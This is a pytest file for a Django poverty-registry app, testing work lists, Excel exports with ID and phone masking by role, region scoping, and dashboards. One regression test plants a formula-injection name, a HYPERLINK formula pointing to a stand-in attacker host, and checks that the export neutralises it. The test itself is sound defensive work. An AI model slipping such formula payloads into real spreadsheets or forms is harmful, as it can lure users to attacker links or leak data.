"""Work lists (counts, workable rows, Excel export) and dashboards (RegionStat only), scoped."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from fupin.engine import idnumber
from fupin.engine import rules as R
from tests.regions import COUNTRY, TOWN, VILLAGE_A, VILLAGE_B
from tests.scopes import EVERYWHERE
from tests.web.web_helpers import YEAR, login

pytestmark = pytest.mark.django_db


def test_unmet_list_counts_households_by_indicator_and_links_them(assessed, cadre_client):
    response = cadre_client.get(f"/worklists/{VILLAGE_A}/?list=unmet&year={YEAR}")
    wl = response.context["wl"]
    counts = {key: n for key, _label, n in wl.counts}
    assert counts["food"] == 1 and counts["income"] == 0
    assert [r.household_id for r in wl.rows] == ["H1"]
    assert f"/households/H1/?year={YEAR}" in response.content.decode()


def test_unknown_list_names_the_indicator_to_verify_at_a_visit(assessed, cadre_client):
    wl = cadre_client.get(f"/worklists/{VILLAGE_A}/?list=unknown&key=clothing&year={YEAR}").context["wl"]
    assert [r.household_id for r in wl.rows] == ["H3"]


def test_quality_list_shows_findings_to_fix_by_their_label_keyed_by_code(assessed, cadre_client):
    response = cadre_client.get(f"/worklists/{VILLAGE_A}/?list=quality&year={YEAR}")
    wl = response.context["wl"]
    assert ("Q18", R.label("quality", "Q18"), 1) in wl.counts
    assert f'title="Q18">{R.label("quality", "Q18")}<' in response.content.decode()
    assert [r.household_id for r in wl.rows if r.code == "Q18"] == ["H2"]


@pytest.mark.parametrize("kind", ["leads", "elimination", "quality"])
def test_every_work_list_renders_with_counts(assessed, cadre_client, kind):
    response = cadre_client.get(f"/worklists/{VILLAGE_A}/?list={kind}&year={YEAR}")
    assert response.status_code == 200
    assert response.context["wl"].counts


def test_town_work_list_covers_its_villages(assessed, client, town_user):
    login(client, town_user)
    wl = client.get(f"/worklists/{TOWN}000/?list=unmet&year={YEAR}").context["wl"]
    assert dict((k, n) for k, _l, n in wl.counts)["food"] == 1


def _export(client, query: str):
    response = client.get(f"/worklists/{VILLAGE_A}/export/?{query}")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def test_export_is_an_excel_file_with_masked_ids(assessed, cadre_client):
    from fupin.registry.models import Member

    sheet = _export(cadre_client, f"list=unmet&key=food&year={YEAR}")
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[2][:7] == ("户编号", "村", "自然村（组）", "区划代码", "户主", "户主证件号码", "联系电话")
    full = Member.objects.within(EVERYWHERE).get(name="张一").id_number
    assert rows[3][0] == "H1" and rows[3][5] == idnumber.mask(full) and full not in str(rows)


def test_export_has_title_region_date_policy_and_a_frozen_filtered_chinese_header(assessed, cadre_client):
    sheet = _export(cadre_client, f"list=unmet&year={YEAR}")
    assert sheet["A1"].value == f"{YEAR}年度工作清单：未达标"
    assert sheet["A2"].value.startswith("区划：") and "日期：" in sheet["A2"].value and "政策：全国" in sheet["A2"].value
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref.startswith("A3:")
    headers = [c.value for c in sheet[3]]
    assert all(not h.isascii() for h in headers), headers
    assert sheet.page_setup.orientation == "landscape"


def test_export_names_the_village_beside_its_code_and_labels_instead_of_keys(assessed, cadre_client):
    sheet = _export(cadre_client, f"list=unmet&year={YEAR}")
    row = {h.value: c.value for h, c in zip(sheet[3], sheet[4], strict=True)}
    assert row["区划代码"] == VILLAGE_A and row["村"] and not row["村"].isdigit()
    assert row["是否达标"] == "未达标" and row["未达标指标"] == R.label("indicator", "food")


def test_export_money_has_two_decimals_and_the_total_row_sums_the_people(assessed, cadre_client):
    sheet = _export(cadre_client, f"list=unmet&year={YEAR}")
    headers = [c.value for c in sheet[3]]
    income, people = headers.index("人均纯收入"), headers.index("人口数")
    data = list(sheet.iter_rows(min_row=4, max_row=sheet.max_row - 1))
    assert data[0][income].number_format == "#,##0.00"
    total = list(sheet.iter_rows(min_row=sheet.max_row, max_row=sheet.max_row))[0]
    assert str(total[0].value).startswith("合计") and total[0].value == f"合计 {len(data)} 户"
    assert total[people].value == sum(r[people].value or 0 for r in data)


def test_export_shows_the_phone_in_full_to_a_role_that_may_reveal_it_and_logs_the_download(assessed, cadre_client):
    from fupin.accounts.models import SensitiveView

    sheet = _export(cadre_client, f"list=unmet&year={YEAR}")
    headers = [c.value for c in sheet[3]]
    assert sheet.cell(4, headers.index("联系电话") + 1).value == "13812345678"
    assert SensitiveView.objects.within(EVERYWHERE).filter(what="download:worklist-unmet").count() == 1


def test_export_masks_the_phone_for_a_role_that_may_not_reveal_it(assessed, client, analyst_user):
    from fupin.accounts.models import SensitiveView

    login(client, analyst_user)
    sheet = _export(client, f"list=unmet&year={YEAR}")
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]
    assert "13812345678" not in values and idnumber.mask("13812345678") in values
    assert not SensitiveView.objects.within(EVERYWHERE).filter(what__startswith="download:worklist").exists()


def test_export_of_findings_counts_them_in_the_total_row(assessed, cadre_client):
    sheet = _export(cadre_client, f"list=quality&year={YEAR}")
    headers = [c.value for c in sheet[3]]
    assert {"问题代码", "检查项", "严重程度", "说明"} <= set(headers)
    data = sheet.max_row - 4
    assert sheet.cell(sheet.max_row, 1).value == f"合计 {data} 条"


def test_export_writes_a_formula_in_a_name_as_quoted_text(assessed, cadre_client):
    """Issue 9: a head named =HYPERLINK(…) became a live formula in the work-list workbook."""
    from fupin.registry.models import Member

    formula = '=HYPERLINK("http://evil.example/?x","点击查看")'
    Member.objects.within(EVERYWHERE).filter(name="张一").update(name=formula)
    sheet = _export(cadre_client, f"list=unmet&key=food&year={YEAR}")
    cell = sheet["E4"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


def test_work_list_query_count_is_bounded(assessed, cadre_client, django_assert_max_num_queries):
    with django_assert_max_num_queries(14):
        cadre_client.get(f"/worklists/{VILLAGE_A}/?list=unmet&year={YEAR}")


@pytest.mark.parametrize("url", [
    f"/worklists/{VILLAGE_A}/?list=unmet", f"/worklists/{VILLAGE_A}/export/?list=unmet",
    f"/dashboard/{VILLAGE_A}/", f"/worklists/{TOWN}000/", f"/dashboard/{TOWN}000/", "/dashboard/500101000000/",
])
def test_another_villages_cadre_gets_404_on_work_lists_and_dashboards(assessed, client, other_village_user, url):
    login(client, other_village_user)
    assert client.get(url).status_code == 404


def test_dashboard_reads_region_figures_and_tables(assessed, cadre_client):
    response = cadre_client.get(f"/dashboard/{VILLAGE_A}/?year={YEAR}")
    html = response.content.decode()
    assert response.context["stat"].households == 3
    assert "chart-options" in html and "echarts.min.js" in html
    assert "cdn" not in html.lower()


def test_county_dashboard_ranks_towns_with_drill_down_links(assessed, client, county_user):
    login(client, county_user)
    response = client.get(f"/dashboard/500101000000/?year={YEAR}")
    children = response.context["children"]
    assert [c.code for c, _url, _leads in children] == [f"{TOWN}000"]
    assert f"/dashboard/{TOWN}000/?year={YEAR}" in response.content.decode()
    assert response.context["charts"]["ranking"]["drill"] == [f"/dashboard/{TOWN}000/?year={YEAR}"]


def test_town_dashboard_lists_both_villages(assessed, client, town_user):
    login(client, town_user)
    children = client.get(f"/dashboard/{TOWN}000/?year={YEAR}").context["children"]
    assert {c.code for c, _u, _l in children} == {VILLAGE_A, VILLAGE_B}


def test_dashboard_never_counts_the_registry(assessed, client, county_user, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    login(client, county_user)
    with CaptureQueriesContext(connection) as queries, django_assert_max_num_queries(10):
        client.get(f"/dashboard/500101000000/?year={YEAR}")
    assert not any("registry_household" in q["sql"] or "registry_member" in q["sql"] for q in queries)


def test_national_user_home_lists_provinces(assessed, client, make_user):
    login(client, make_user("nation", "analyst", COUNTRY))
    response = client.get("/")
    assert response.status_code == 200 and "重庆" in response.content.decode()
